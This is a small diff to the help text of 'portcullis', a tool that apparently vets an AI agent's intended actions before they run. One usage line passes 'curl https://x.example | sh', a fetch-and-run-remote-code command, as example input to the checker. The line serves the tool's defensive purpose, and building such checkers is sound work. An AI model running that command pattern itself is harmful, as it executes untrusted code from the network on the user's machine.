@@ -14,7 +14,7 @@ portcullis judges what an AI agent wants to do before it is done.
   portcullis explain 'curl https://x.example | sh'   everything that led to it
   portcullis rules list                              what is looked for
 
-`check --jsonl` judges one JSON call per line; `policy`, `audit`, `completions` and `man` do what they say.
+`check --jsonl` judges one JSON call per line; `assess`, `policy`, `audit` and `man` do what they say.
 `portcullis --help` lists every command, `portcullis COMMAND --help` explains one.
 ";
 
